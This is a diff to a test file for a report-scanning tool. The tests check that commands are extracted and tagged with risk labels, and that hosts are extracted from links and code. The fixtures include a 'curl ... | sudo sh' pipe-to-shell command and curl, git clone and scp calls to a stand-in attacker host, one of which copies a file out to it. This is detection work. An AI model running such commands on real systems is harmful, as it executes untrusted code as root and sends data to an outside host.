@@ -93,11 +93,20 @@ describe('the commands of a report', () => {
 		`detail: |\n${['Run:', '', `\`\`\`${lang}`, ...lines, '```'].map((line) => `      ${line}`).join('\n')}`;
 
 	test.each([
-		['of a fix', fence('sh', '# why', '$ gizmo reset', ''), [['gizmo reset', []]]],
+		[
+			'of a fix',
+			fence('sh', '# why', '$ gizmo reset', ''),
+			[['gizmo reset', ['starts something new']]],
+		],
 		[
 			'whole, over several lines',
 			fence('bash', 'curl -s https://example.com/x \\', '  | sudo \\', '  sh'),
-			[['curl -s https://example.com/x | sudo sh', ['pipes into a shell', 'changes permissions']]],
+			[
+				[
+					'curl -s https://example.com/x | sudo sh',
+					['pipes into a shell', 'changes permissions', 'starts something new'],
+				],
+			],
 		],
 		[
 			'in another language, if they do something to look at',
@@ -152,6 +161,9 @@ describe('the hosts of a report', () => {
 		['behind a name', '[this](https://example.com@evil.example/x)', ['evil.example']],
 		['of a bare address', 'see https://Evil.example:8080/x.', ['evil.example:8080']],
 		['of an address in code', '`curl https://evil.example/x`', ['evil.example']],
+		['of an address without a scheme', '`curl -o x.json evil.example/x`', ['evil.example']],
+		['of another scheme', '`git clone ssh://git@evil.example/x`', ['evil.example']],
+		['of a remote', '`scp x.txt me@evil.example:x`', ['evil.example']],
 		['that only Markdown shows', '[this](https&#58;//evil.example)', ['evil.example']],
 		['but none that are cited already', '[this](https://example.com/other)', []],
 	])('are those %s', (_, text, expected) => {
